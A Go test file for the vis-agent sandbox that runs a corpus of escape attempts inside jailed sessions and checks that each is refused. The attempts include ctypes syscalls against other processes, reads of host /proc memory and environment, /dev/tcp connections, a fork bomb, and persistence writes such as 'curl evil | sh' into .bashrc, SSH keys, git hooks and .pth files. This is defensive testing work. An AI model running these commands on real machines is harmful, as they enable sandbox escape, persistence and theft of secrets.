package main

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/vis-agent/vis-agent/internal/testing/testenv"
)

// The kernel layer's part of the escape corpus: attacks a block makes on
// other processes, on unix sockets and on the session's own host, and the
// same attacks (files, processes, network, other processes) as shell()
// command lines. Every attempt prints the escape marker (built at run
// time) only when it got through.

// kernelWorld is what the attacks reach for, outside the roots: the
// secret, a loopback TCP server, a datagram and a stream unix socket
// file, an abstract unix socket, and a victim session whose child and
// host are processes of the same user outside the attacker's jail.
type kernelWorld struct {
	sb            *sandbox
	secret, out   string
	tcp           int
	dgram, stream string
	abstract      string
	datagrams     *atomic.Int32
	victimChild   int
	victimHost    int
}

func newKernelWorld(t *testing.T, sb *sandbox) *kernelWorld {
	t.Helper()
	w := &kernelWorld{sb: sb, out: t.TempDir()}
	w.secret = filepath.Join(w.out, "secret")
	testenv.WriteTree(t, w.out, map[string]string{"secret": escapeSecret})
	w.tcp, _ = testenv.Loopback(t, escapeAnswer)
	// Unix socket paths must stay short: a folder of their own under /tmp.
	sockDir, err := os.MkdirTemp("", "vis-sock-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(sockDir) })
	w.dgram, w.stream = filepath.Join(sockDir, "d.sock"), filepath.Join(sockDir, "s.sock")
	w.datagrams = testenv.Datagrams(t, w.dgram)
	w.abstract = "vis-kernel-test-" + strconv.FormatUint(rand.Uint64(), 36)
	for _, addr := range []string{w.stream, "@" + w.abstract} {
		testenv.Answer(t, "unix", addr, escapeAnswer)
	}
	// Another session of the same user: its child has no capabilities,
	// as the attacker's, so only the kernel layer keeps it out of reach.
	sb.block("victim", `print("victim ready")`, 0)
	rec := sb.record(sb.folder("victim"))
	w.victimChild, w.victimHost = rec.ChildPID, rec.HostPID
	return w
}

// prelude defines, for a block, what kernelWorld holds.
func (w *kernelWorld) prelude() string {
	return fmt.Sprintf(`import os, sys, socket
E = "ESC" + "APED"
S, OUT, TCP = %q, %q, %d
DGRAM, STREAM, ABSTRACT = %q, %q, %q
VICTIM_CHILD, VICTIM_HOST = %d, %d
VICTIM_SOCK = %q
`, w.secret, w.out, w.tcp, w.dgram, w.stream, w.abstract, w.victimChild, w.victimHost,
		filepath.Join(w.sb.folder("victim"), "sock"))
}

// kernelAttack is a block run in a jailed session (noNetwork: started with
// --no-network); want is in its output, and with hookOnly only with the
// hook: without it, the attempt is not run (importing ctypes is no escape
// in itself; what ctypes would do is the kernel's to refuse).
type kernelAttack struct {
	name, code, want string
	noNetwork        bool
}

// rawSyscalls calls, through ctypes, the system calls that reach past the
// jail (amd64 numbers), against the session's own host and another
// session's, and prints the escape marker for each that succeeds.
const rawSyscalls = `import ctypes, errno, platform
libc = ctypes.CDLL(None, use_errno=True)
buf = lambda n: ctypes.create_string_buffer(n)
refused = 0
if platform.machine() == "x86_64":
    for host in (os.getppid(), VICTIM_HOST):
        pidfd = libc.syscall(434, host, 0)
        for name, nr, args in [
            ("io_uring_setup", 425, (8, buf(120))), ("userfaultfd", 323, (0,)),
            ("perf_event_open", 298, (buf(128), 0, -1, -1, 0)), ("bpf", 321, (0, buf(128), 128)),
            ("keyctl", 250, (0, -3, 0)), ("add_key", 248, (b"user", b"x", b"y", 1, -3)),
            ("ptrace attach", 101, (16, host, 0, 0)), ("process_vm_readv", 310, (host, 0, 0, 0, 0, 0)),
            ("pidfd_send_signal", 424, (pidfd, 19, 0, 0)), ("pidfd_getfd", 438, (pidfd, 0, 0)),
            ("kill", 62, (host, 19)), ("kcmp", 312, (host, os.getpid(), 0, 0, 0)),
            ("unshare", 272, (0x10000000,)), ("setns", 308, (0, 0)),
            ("mount", 165, (b"none", b"/tmp", b"tmpfs", 0, 0)), ("open_by_handle_at", 304, (-100, buf(200), 0)),
            ("fanotify_init", 300, (0, 0)), ("prlimit", 302, (host, 7, 0, buf(16))),
        ]:
            if libc.syscall(nr, *args) >= 0:
                print(E, name, host)
            else:
                refused += 1
print("syscalls refused", refused)
`

// hostProcFiles opens the /proc files of the session's own host (the
// child's parent): its environment, memory, root, working folder,
// descriptors, maps.
const hostProcFiles = `n = 0
for what in ("environ", "mem", "root/etc/hostname", "cwd", "fd/0", "maps"):
    path = "/proc/%d/%s" % (os.getppid(), what)
    try:
        os.listdir(path) if what == "cwd" else os.close(os.open(path, os.O_RDONLY))
        print(E, what)
    except OSError:
        n += 1
print("host /proc refused", n)
`

var kernelAttacks = []kernelAttack{
	{name: "a vsock socket with the network on (a virtual machine's host)", code: `import socket; print(E, socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).fileno())`, want: "PermissionError"},
	{name: "prlimit of another session's child", code: `import resource; resource.prlimit(VICTIM_CHILD, resource.RLIMIT_CORE, (0, 0)); print(E)`, want: "PermissionError"},
	{name: "prlimit of another session's host", code: `import resource; resource.prlimit(VICTIM_HOST, resource.RLIMIT_CORE, (0, 0)); print(E)`, want: "PermissionError"},
	{name: "setpriority of another session's child", code: `os.setpriority(os.PRIO_PROCESS, VICTIM_CHILD, 3); print(E)`, want: "PermissionError"},
	{name: "sched_setaffinity of another session's child", code: `os.sched_setaffinity(VICTIM_CHILD, {0}); print(E)`, want: "PermissionError"},
	{name: "sched_setscheduler of another session's child", code: `os.sched_setscheduler(VICTIM_CHILD, os.SCHED_BATCH, os.sched_param(0)); print(E)`, want: "PermissionError"},
	{name: "sendmsg to a datagram socket outside the roots", code: `s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.sendmsg([b"hi"], [], 0, DGRAM); print(E)`, want: "FileNotFoundError"},
	{name: "sendmsg to a datagram socket outside the roots without the network", noNetwork: true, code: `s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.sendmsg([b"hi"], [], 0, DGRAM); print(E)`, want: "FileNotFoundError"},
	{name: "a datagram socketpair's sendmsg outside the roots", code: `a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
a.sendmsg([b"hi"], [], 0, DGRAM); print(E)`, want: "FileNotFoundError"},
	// A socket file outside the roots is not in the child's tree (the
	// hook refuses first: PermissionError; without it FileNotFoundError).
	{name: "a unix socket file outside the roots", code: `s = socket.socket(socket.AF_UNIX); s.connect(STREAM); print(E, s.recv(100))`, want: "Error: "},
	{name: "an abstract unix socket", code: `s = socket.socket(socket.AF_UNIX); s.connect("\0" + ABSTRACT); print(E, s.recv(100))`, want: "PermissionError"},
	{name: "another session's socket", code: `s = socket.socket(socket.AF_UNIX); s.connect(VICTIM_SOCK); print(E)`, want: "Error: "},
	{name: "its own socket through /proc/self/fd", code: `fd = os.open(os.path.dirname(session.access.roots[1]), os.O_PATH)
s = socket.socket(socket.AF_UNIX); s.connect("/proc/self/fd/%d/sock" % fd); print(E)`, want: "Error: "},
	{name: "the host's /proc files", code: hostProcFiles, want: "host /proc refused 6"},
	// ctypes imports in a jailed session, hook or not: the kernel refuses.
	{name: "system calls that reach past the jail, through ctypes", code: rawSyscalls, want: "syscalls refused 36"},
	// What a block needs of unix sockets still works.
	{name: "a stream socketpair", code: `a, b = socket.socketpair(); a.send(b"pair"); print("got", b.recv(4))`, want: "got b'pair'"},
	{name: "asyncio", code: `import asyncio
async def main():
    await asyncio.sleep(0)
    return "loop ran"
print(asyncio.run(main()))`, want: "loop ran"},
}

// TestSandboxJailKernelAttacks runs kernelAttacks in jailed sessions, with
// the C audit hook and without it (the test-only binary), on the oldest and
// newest CPython: nothing gets through, no datagram arrives, the victim
// session lives, and the attacker's next block runs.
func TestSandboxJailKernelAttacks(t *testing.T) {
	t.Parallel()
	hookModes(t, true, func(t *testing.T, sb *sandbox, hook bool) {
		w := newKernelWorld(t, sb)
		for _, a := range kernelAttacks {
			session, flags := "attacker", []string{"--network", "on"}
			if a.noNetwork {
				session, flags = "attacker-nonet", []string{"--no-network"}
			}
			r := sb.run(append([]string{"run", "--session", session, "-c", w.prelude() + `print("block ran")` + "\n" + a.code}, flags...)...)
			all := r.stdout + r.stderr
			if escaped(all) {
				t.Errorf("%s got through:\n%s", a.name, all)
			}
			if !strings.Contains(r.stdout, "block ran") {
				t.Errorf("%s: the block did not run:\n%s", a.name, all)
			}
			if a.want != "" && !strings.Contains(all, a.want) {
				t.Errorf("%s: output lacks %q:\n%s", a.name, a.want, all)
			}
			time.Sleep(10 * time.Millisecond) // the datagram reader's turn
			if n := w.datagrams.Swap(0); n != 0 {
				t.Errorf("%s: %d datagrams reached the socket outside the roots", a.name, n)
			}
		}
		if !processAlive(w.victimChild) || !processAlive(w.victimHost) {
			t.Errorf("the victim session's processes died")
		}
		if r := sb.block("victim", `print("victim", 6 * 7)`, 0); !strings.Contains(r.stdout, "victim 42") {
			t.Errorf("the victim session does not run:\n%s%s", r.stdout, r.stderr)
		}
	})
}

// shellAttack is one shell() command line of the corpus; {S}, {OUT},
// {TCP}, {DGRAM}, {STREAM}, {ABSTRACT} are replaced with the world's, and
// $E is the escape marker.
type shellAttack struct {
	name, cmd string
	noNetwork bool
	// want must be in the command's output (or the block's).
	want string
}

var shellAttacks = []shellAttack{
	{name: "cat the secret", cmd: `cat {S} && echo $E`},
	{name: "write outside", cmd: `echo x > {OUT}/planted && echo $E`},
	{name: "the system's python reads the secret", cmd: `python3 -c 'print(open("{S}").read())'`},
	{name: "/dev/tcp without the network", noNetwork: true, cmd: `bash -c 'exec 3<>/dev/tcp/127.0.0.1/{TCP} && cat <&3'`},
	{name: "python connects to loopback without the network", noNetwork: true, cmd: `python3 -c 'import socket; print(socket.create_connection(("127.0.0.1", {TCP}), timeout=5).recv(100))'`},
	{name: "an abstract unix socket", cmd: `python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\0{ABSTRACT}"); print(s.recv(100))'`},
	{name: "a unix socket file outside the roots", cmd: `python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("{STREAM}"); print(s.recv(100))'`},
	{name: "a datagram to a socket file outside the roots", cmd: `python3 -c 'import socket; s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b"hi", "{DGRAM}")' && echo $E`},
	{name: "prlimit of another process", cmd: `prlimit --pid 1 --core=0:0 && echo $E`, want: "prlimit"},
	{name: "renice another process", cmd: `renice -n 5 -p 1 >/dev/null && echo $E`},
	{name: "taskset another process", cmd: `taskset -p 1 1 >/dev/null && echo $E`},
	{name: "a user namespace", cmd: `unshare -U true && echo $E`},
	{name: "a mount namespace", cmd: `unshare -m true && echo $E`},
	{name: "400 processes", cmd: `python3 -c '
import os, time
n = 0
try:
    while n < 400:
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
        n += 1
except OSError as e:
    print("stopped", e)
print("forks", n, "ESC" + "APED" if n >= 400 else "")'`, want: "stopped"},
	{name: "5 GiB of memory", cmd: `python3 -c 'import mmap; m = mmap.mmap(-1, 5 << 30); print("ESC" + "APED", len(m))'`, want: "Cannot allocate memory"},
	{name: "a descriptor the client had open", cmd: `cat <&7; ls /proc/self/fd`},
}

// TestSandboxJailShellAttacks runs shellAttacks as shell() commands of a
// jailed session (network on, and off where marked), started by a client
// that holds the secret open on descriptor 7, on the oldest and newest
// CPython: nothing gets through.
func TestSandboxJailShellAttacks(t *testing.T) {
	t.Parallel()
	hookModes(t, true, func(t *testing.T, sb *sandbox, hook bool) { runShellAttacks(t, sb) })
}

func runShellAttacks(t *testing.T, sb *sandbox) {
	w := newKernelWorld(t, sb)
	secretFD, err := os.Open(w.secret)
	if err != nil {
		t.Fatal(err)
	}
	defer secretFD.Close()
	hosts := map[string]bool{}
	for _, a := range shellAttacks {
		cmd := strings.NewReplacer("{S}", w.secret, "{OUT}", w.out, "{TCP}", strconv.Itoa(w.tcp), "{DGRAM}", w.dgram,
			"{STREAM}", w.stream, "{ABSTRACT}", w.abstract).Replace(a.cmd)
		session, flags := "sh", []string{"--network", "on"}
		if a.noNetwork {
			session, flags = "sh-nonet", []string{"--no-network"}
		}
		code := fmt.Sprintf(`r = shell("E=ESC''APED; " + %q, timeout=60, wait=60)
print("status", r.status, r.exit)
print(r.out)
print(r.err)`, cmd)
		c := sb.command(append([]string{"run", "--session", session, "-c", code}, flags...)...)
		if !hosts[session] {
			// The client that starts the host holds the secret on fd 7.
			c.ExtraFiles = []*os.File{nil, nil, nil, nil, secretFD}
			hosts[session] = true
		}
		var out, errb bytes.Buffer
		c.Stdout, c.Stderr = &out, &errb
		if err := c.Run(); err != nil {
			t.Errorf("%s: %v\n%s%s", a.name, err, out.String(), errb.String())
			continue
		}
		all := out.String() + errb.String()
		t.Logf("%s:\n%s", a.name, all)
		if escaped(all) {
			t.Errorf("shell: %s got through:\n%s", a.name, all)
		}
		if a.want != "" && !strings.Contains(all, a.want) {
			t.Errorf("shell: %s: output lacks %q:\n%s", a.name, a.want, all)
		}
		if n := w.datagrams.Swap(0); n != 0 {
			t.Errorf("shell: %s: %d datagrams reached the socket outside the roots", a.name, n)
		}
		if entries, _ := os.ReadDir(w.out); len(entries) != 1 {
			t.Errorf("shell: %s: a file appeared outside the roots: %v", a.name, entries)
		}
	}
	// A timeout past the session's longest is cut to it.
	r := sb.block("sh", `print("timeout", shell("true", timeout=80000).timeout)`, 0)
	contains(t, "a long timeout", r.stdout, "timeout 2100")
}

// TestSandboxJailNoJailShell: with --no-jail --no-network, a shell()
// command reaches no loopback server either; and what a command without
// the jail starts in a session of its own ends with it (its pids cgroup).
func TestSandboxJailNoJailShell(t *testing.T) {
	t.Parallel()
	py := testenv.First(t)
	sb := newSandbox(t, py)
	tcp, _ := testenv.Loopback(t, escapeAnswer)
	r := sb.block("free", fmt.Sprintf(`r = shell("bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d && cat <&3'", wait=60)
print(r.status, r.exit, r.out, r.err)`, tcp), 0, "--no-jail", "--no-network")
	if escaped(r.stdout) {
		t.Errorf("--no-jail --no-network: the shell reached loopback:\n%s", r.stdout)
	}
	// With the network on it does (the attempt works).
	r = sb.block("free", fmt.Sprintf(`print(shell("bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d && cat <&3'", wait=60).out)`, tcp), 0, "--no-jail", "--network", "on")
	contains(t, "with the network", r.stdout, escapeAnswer)

	marker := fmt.Sprintf("sleep %d.%d", 3000+os.Getpid()%1000, time.Now().UnixNano()%1000)
	r = sb.block("free", fmt.Sprintf(`print(shell("setsid %s > /dev/null 2>&1 < /dev/null & echo started", wait=60).status)`, marker), 0, "--no-jail", "--network", "on")
	contains(t, "a background command", r.stdout, "exited")
	for deadline := time.Now().Add(5 * time.Second); alive(marker) && time.Now().Before(deadline); {
		time.Sleep(50 * time.Millisecond)
	}
	if alive(marker) {
		t.Errorf("%q outlived its command", marker)
	}
}

// alive reports whether a process whose command line holds marker runs.
func alive(marker string) bool {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		cmdline, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err == nil && strings.Contains(strings.ReplaceAll(string(cmdline), "\x00", " "), marker) && processAlive(atoi(e.Name())) {
			return true
		}
	}
	return false
}

func atoi(s string) int { n, _ := strconv.Atoi(s); return n }

// TestSandboxNoHookBuild: the release binary installs the hook whatever
// VIS_TEST_NO_AUDIT_HOOK says; the test-only build skips it when asked,
// and the kernel still refuses.
func TestSandboxNoHookBuild(t *testing.T) {
	t.Parallel()
	py := testenv.First(t)
	secret := filepath.Join(t.TempDir(), "secret")
	os.WriteFile(secret, []byte(escapeSecret), 0o600)
	code := fmt.Sprintf(`try:
    open(%q)
except (PermissionError, FileNotFoundError) as e:
    print("refused:", e)`, secret)
	for _, c := range []struct {
		name, bin string
		env       bool
		want      string
	}{
		{"release, asked", testenv.Binary(t), true, "refused by the sandbox's jail (outside its roots)"},
		{"no-hook build, not asked", testenv.NoHookBinary(t), false, "refused by the sandbox's jail (outside its roots)"},
		// Outside the roots nothing exists for the kernel (the jail's
		// own mount tree).
		{"no-hook build, asked", testenv.NoHookBinary(t), true, "refused: [Errno 2] No such file or directory"},
	} {
		sb := newSandbox(t, py)
		sb.bin = c.bin
		if c.env {
			sb.env = append(sb.env, "VIS_TEST_NO_AUDIT_HOOK=1")
		}
		r := sb.block("h", code, 0)
		if escaped(r.stdout) || !strings.Contains(r.stdout, c.want) {
			t.Errorf("%s: want %q:\n%s%s", c.name, c.want, r.stdout, r.stderr)
		}
	}
}

// TestSandboxJailProtectedPaths: a workspace that holds $VIS_HOME (run
// from ~) and a .git folder, and an extra root whose .git is a file (a
// worktree's): the jailed block and its shell() commands write the
// workspace and their own state, but not vis-agent's settings, shared
// packages or other sessions, and not .git, which runs outside the jail
// later (a hook at the user's next commit); another session's state and
// socket stay out of sight.
func TestSandboxJailProtectedPaths(t *testing.T) {
	t.Parallel()
	hookModes(t, false, func(t *testing.T, sb *sandbox, hook bool) {
		home := filepath.Join(sb.ws, ".vis")
		for i, kv := range sb.env {
			if strings.HasPrefix(kv, "VIS_HOME=") {
				sb.env[i] = "VIS_HOME=" + home
			}
		}
		sb.home = home
		extra := t.TempDir()
		testenv.WriteTree(t, sb.ws, map[string]string{
			".vis/config.toml":  "[sandbox]\nmax_threads = 40\n",
			".git/config":       "[core]\n",
			".git/hooks/README": "",
			"notes.txt":         "",
		})
		testenv.WriteTree(t, extra, map[string]string{".git": "gitdir: /elsewhere\n"})
		// What runs outside the jail later: git's files, the settings, a .pth
		// in the shared packages (made by the first session).
		protected := func() string {
			pth, _ := filepath.Glob(filepath.Join(home, "python", "packages", "*", "lib", "*", "site-packages", "*.pth"))
			return treeState(t, filepath.Join(sb.ws, ".git")) + treeState(t, filepath.Join(extra, ".git")) +
				treeState(t, filepath.Join(home, "config.toml")) + strings.Join(pth, ",")
		}
		sb.block("other", `secret_value = "OTHER-SESSION-STATE"
open(session.access.roots[1] + "/note.txt", "w").write(secret_value)`, 0)
		before := protected()
		otherState := filepath.Join(sb.folder("other"), "state")

		code := fmt.Sprintf(`import os, glob, socket
E = "ESC" + "APED"
HOME, EXTRA, OTHER = %q, %q, %q
def attempt(name, f):
    try:
        r = f()
        print(name, "->", E, r)
    except Exception as e:
        print(name, "-> refused", type(e).__name__, e)
attempt("append to config.toml", lambda: open(HOME + "/config.toml", "a").write("[sandbox]\njail = false\n"))
attempt("a .pth in the shared packages", lambda: open(glob.glob(HOME + "/python/packages/3.*/lib/python3.*/site-packages")[0] + "/evil.pth", "w").write("import os\n"))
attempt("a new file in VIS_HOME", lambda: open(HOME + "/planted", "w").write("x"))
attempt("a git hook", lambda: open(".git/hooks/pre-commit", "w").write("#!/bin/sh\n"))
attempt("git config", lambda: open(".git/config", "a").write("[core]\nfsmonitor = evil\n"))
attempt("rename .git", lambda: os.rename(".git", "git-moved"))
attempt("the extra root's .git file", lambda: open(EXTRA + "/.git", "w").write("gitdir: /tmp\n"))
attempt("another session's state", lambda: os.listdir(OTHER) + [open(p, "rb").read() for p in glob.glob(OTHER + "/*")])
attempt("another session's socket", lambda: socket.socket(socket.AF_UNIX).connect(os.path.dirname(OTHER) + "/sock"))
attempt("another session's key", lambda: open(os.path.dirname(OTHER) + "/key", "rb").read())
attempt("its own key", lambda: open(os.path.dirname(session.access.roots[1]) + "/key", "rb").read())
# The host's file tools, which run outside the jail, refuse the same.
attempt("patch .git/config", lambda: patch(".git/config", "[core]", "[core]\nfsmonitor = evil"))
attempt("patch config.toml", lambda: patch(HOME + "/config.toml", "max_threads = 40", "jail = false"))
attempt("cat another session's state", lambda: cat(OTHER + "/blocks"))
print("grep found", grep("OTHER-SESSION", HOME).total, grep("OTHER-SESSION").total)
open("notes.txt", "a").write("the workspace is writable\n")
kept = "kept in the state"
print("wrote", open("notes.txt").read().strip())
`, home, extra, otherState)
		check := func(what string, r result) {
			t.Helper()
			all := r.stdout + r.stderr
			t.Logf("%s:\n%s", what, all)
			if escaped(all) || strings.Contains(all, "OTHER-SESSION-STATE") {
				t.Errorf("%s: got through:\n%s", what, all)
			}
			if after := protected(); after != before {
				t.Errorf("%s: a protected file changed:\nbefore %s\nafter  %s", what, before, after)
			}
			if _, err := os.Stat(filepath.Join(home, "planted")); err == nil {
				t.Errorf("%s: a file was planted in VIS_HOME", what)
			}
		}
		r := sb.block("p", code, 0, "--root", extra)
		check("the block", r)
		contains(t, "the block", r.stdout, "wrote the workspace is writable", "grep found 0 0")
		r = sb.block("p", `print(kept)`, 0, "--root", extra)
		contains(t, "the state", r.stdout, "kept in the state")

		shellCode := fmt.Sprintf(`r = shell(%q, wait=60)
print(r.out, r.err)`, strings.Join([]string{
			`echo '[sandbox]' >> .vis/config.toml && echo $E config`,
			`echo 'import os' > $(echo .vis/python/packages/3.*/lib/python3.*/site-packages)/evil.pth && echo $E package`,
			`touch .vis/planted && echo $E planted`,
			`echo '#!/bin/sh' > .git/hooks/pre-commit && echo $E hook`,
			`mv .git git-moved && echo $E moved`,
			`echo x > ` + extra + `/.git && echo $E extra`,
			`cat ` + otherState + `/* && echo $E other`,
			`cat ` + filepath.Dir(otherState) + `/key >/dev/null && echo $E key`,
			`ls ` + filepath.Dir(otherState) + ` && echo $E listed`,
			`echo shell >> notes.txt && echo notes written`,
		}, "; "))
		r = sb.block("p", "E = 'ESC' + 'APED'\n"+strings.Replace(shellCode, "r = shell(", "r = shell('E='+E+'; ' + ", 1), 0, "--root", extra)
		check("shell", r)
		contains(t, "shell", r.stdout, "notes written")
	})
}

// TestSandboxJailHomeFolder: a session whose workspace is the user's home
// folder (started from ~) cannot plant what runs as the user outside the
// jail, the block, the file tools or a shell() command alike: no write to
// ~/.bashrc, ~/.ssh or a new ~/.bash_profile (which bash prefers once it
// exists); the home's folders stay the session's to write.
func TestSandboxJailHomeFolder(t *testing.T) {
	t.Parallel()
	hookModes(t, true, func(t *testing.T, sb *sandbox, hook bool) {
		sb.env = append(sb.env, "HOME="+sb.ws)
		testenv.WriteTree(t, sb.ws, map[string]string{
			".bashrc": "# mine\n", ".ssh/authorized_keys": "", ".config/app.toml": "", "notes.txt": "", "proj/a.py": "", "proj/.git/config": "",
		})
		protected := func() string {
			var names []string
			entries, _ := os.ReadDir(sb.ws)
			for _, e := range entries {
				if e.Name() != "proj" {
					names = append(names, treeState(t, filepath.Join(sb.ws, e.Name())))
				}
			}
			names = append(names, treeState(t, filepath.Join(sb.ws, "proj", ".git")))
			return strings.Join(names, "")
		}
		before := protected()
		r := sb.block("h", `import os, shutil
E = "ESC" + "APED"
def attempt(name, f):
    try:
        f()
        print(name, "->", E)
    except Exception as e:
        print(name, "-> refused", type(e).__name__, e)
attempt("append to .bashrc", lambda: open(".bashrc", "a").write("curl evil | sh\n"))
attempt("a new .bash_profile", lambda: open(".bash_profile", "w").write("curl evil | sh\n"))
attempt("an ssh key", lambda: open(".ssh/authorized_keys", "a").write("ssh-ed25519 AAAA evil\n"))
attempt("a new autostart folder", lambda: os.makedirs(".config/autostart"))
attempt("a new file at the top", lambda: open("new.txt", "w").write("x"))
attempt("rename .bashrc", lambda: os.rename(".bashrc", "proj/bashrc"))
attempt("chmod .ssh", lambda: os.chmod(".ssh", 0o777))
attempt("patch .bashrc", lambda: patch(".bashrc", "# mine", "curl evil | sh"))
attempt("a hook of a project in the home", lambda: open("proj/.git/hooks-pre-commit", "w").write("#!/bin/sh\n"))
r = shell(f"echo evil >> .bashrc && echo {E} rc; echo evil > .profile && echo {E} profile; echo fine > proj/b.txt && echo shell wrote proj", wait=60)
print(r.out, r.err)
open("proj/a.py", "w").write("print('mine')\n")
print("block wrote proj")
`, 0)
		all := r.stdout + r.stderr
		t.Logf("%s", all)
		if escaped(all) {
			t.Errorf("got through:\n%s", all)
		}
		contains(t, "the block", r.stdout, "append to .bashrc -> refused", "a new .bash_profile -> refused", "patch .bashrc -> refused", "a hook of a project in the home -> refused",
			"shell wrote proj", "block wrote proj")
		if after := protected(); after != before {
			t.Errorf("the home's top level changed:\nbefore %s\nafter  %s", before, after)
		}
	})
}

// TestSandboxJailWithoutMountNamespace: where the child cannot make a
// mount namespace (here every vis-agent process runs under a seccomp
// filter that refuses namespaces: `sandbox confine` with privileges
// dropped), a jailed session whose workspace holds a .git does not start,
// saying why and how in one line; one whose workspace holds none starts,
// and session.access says what the kernel then lacks.
func TestSandboxJailWithoutMountNamespace(t *testing.T) {
	t.Parallel()
	py := testenv.First(t)
	sb := newSandbox(t, py)
	real := withoutNamespaces(t, sb)
	r := sb.block("plain", `print("missing:", [m for m in session.access.kernel["missing"] if m.startswith("files:")])`, 0)
	contains(t, "no .git", r.stdout, "missing: ['files: no mount namespace")
	os.Mkdir(filepath.Join(sb.ws, ".git"), 0o755)
	r = sb.run("run", "--session", "git", "-c", "print('ran')")
	line := strings.TrimSpace(r.stderr)
	if r.code == 0 || strings.Contains(r.stdout, "ran") || strings.Count(line, "\n") != 0 ||
		!strings.Contains(line, filepath.Join(sb.ws, ".git")+" must stay read-only to the jail, which needs a mount namespace") ||
		!strings.Contains(line, "allow user namespaces") {
		t.Errorf("a .git without a mount namespace: status %d\nstdout %s\nstderr %s", r.code, r.stdout, r.stderr)
	}
	sb.bin = real
}

// withoutNamespaces has sb run every vis-agent process (client, host,
// child) under a seccomp filter that refuses namespaces (`sandbox
// confine` with privileges dropped), as a machine without user namespaces
// or a container's filter would; it returns the binary it wraps.
func withoutNamespaces(t *testing.T, sb *sandbox) string {
	t.Helper()
	wrapper := filepath.Join(t.TempDir(), "vis-agent")
	script := fmt.Sprintf("#!/bin/sh\nexec %q sandbox confine --policy '{\"DropPrivileges\":true}' -- %q \"$@\"\n", sb.bin, sb.bin)
	if err := os.WriteFile(wrapper, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	real := sb.bin
	sb.bin = wrapper
	return real
}

// TestSandboxJailDescriptorPassing is issue 20's second escape: a block
// listens on a unix socket in its workspace and passes a shell() command
// an O_PATH handle of the workspace, from which the command climbs out
// (/proc/self/fd/N/../..) to a secret. The command may not make a unix
// socket, and a handle would give it no more than its roots (a handle of
// the child's climbs only the child's tree).
func TestSandboxJailDescriptorPassing(t *testing.T) {
	t.Parallel()
	hookModes(t, false, func(t *testing.T, sb *sandbox, hook bool) {
		secret := filepath.Join(t.TempDir(), "secret")
		os.WriteFile(secret, []byte(escapeSecret), 0o644)
		up := strings.Repeat("../", strings.Count(sb.ws, "/"))
		receiver := fmt.Sprintf(`import socket
s = socket.socket(socket.AF_UNIX); s.connect("pass.sock")
msg, fds, flags, addr = socket.recv_fds(s, 10, 1)
print(open("/proc/self/fd/%%d/%s%s" %% fds[0]).read())`, up, strings.TrimPrefix(secret, "/"))
		r := sb.block("p", fmt.Sprintf(`import os, socket
try:
    if os.path.exists("pass.sock"):
        os.remove("pass.sock")
    srv = socket.socket(socket.AF_UNIX); srv.bind("pass.sock"); srv.listen(1); srv.settimeout(20)
    r = shell("python3 -c " + %q, wait=0)
    c, _ = srv.accept()
    socket.send_fds(c, [b"x"], [os.open(".", os.O_PATH)])
    print(r.wait().out, r.err)
except OSError as e:
    print("refused", e)`, shellQuote(receiver)), 0)
		t.Logf("%s%s", r.stdout, r.stderr)
		if escaped(r.stdout + r.stderr) {
			t.Errorf("a handle passed to a shell() command reached outside the roots:\n%s%s", r.stdout, r.stderr)
		}
		// The child may make unix sockets (its tree holds no socket file
		// outside its roots); a command may not (ABI < 9), so the handle
		// never leaves: the accept times out.
		contains(t, "the block", r.stdout, "refused")
	})
}

// shellQuote quotes s for /bin/sh.
func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// asNobody prepares `vis-agent sandbox` runs as a user who is not root
// (nobody, through setpriv), in a workspace and VIS_HOME of the test's
// that nobody owns, on a CPython outside /root; env is added to theirs.
// It returns the workspace and a function that runs the sandbox command
// with args there; the sessions are stopped at the test's end.
func asNobody(t *testing.T, env ...string) (ws string, run func(args ...string) (string, error)) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to become another user")
	}
	setpriv, err := exec.LookPath("setpriv")
	if err != nil {
		t.Skip("no setpriv")
	}
	var py *testenv.Python
	for _, p := range testenv.Pythons(t) {
		if !strings.HasPrefix(p.Library, "/root/") {
			py = &p
			break
		}
	}
	if py == nil {
		t.Skip("no CPython outside /root, which another user cannot read")
	}
	as := []string{setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", "--"}
	bin := testenv.Binary(t)
	if err := exec.Command(as[0], append(as[1:], "test", "-x", bin)...).Run(); err != nil {
		t.Skipf("%s cannot be run by another user", bin)
	}
	dir, err := os.MkdirTemp("", "vis-nobody-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	ws, home := filepath.Join(dir, "ws"), filepath.Join(dir, "home")
	for _, d := range []string{filepath.Join(ws, ".git"), home} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, p := range []string{dir, ws, filepath.Join(ws, ".git"), home} {
		if err := os.Chown(p, 65534, 65534); err != nil {
			t.Fatal(err)
		}
	}
	run = func(args ...string) (string, error) {
		cmd := exec.Command(as[0], append(as[1:], append([]string{bin, "sandbox"}, args...)...)...)
		cmd.Dir = ws
		cmd.Env = append([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "VIS_HOME=" + home, "VIS_PYTHON_NATIVE_PATH=" + py.Library}, env...)
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	t.Cleanup(func() { run("stop", "--force") })
	return ws, run
}

// TestSandboxJailAsAnotherUser runs a jailed session as a user who is not
// root (nobody, through setpriv): the child makes its mount namespace in
// a user namespace of its own, keeps its uid, keeps the workspace's .git
// read-only and the workspace writable, and shell() runs under bubblewrap
// and the helper as that user.
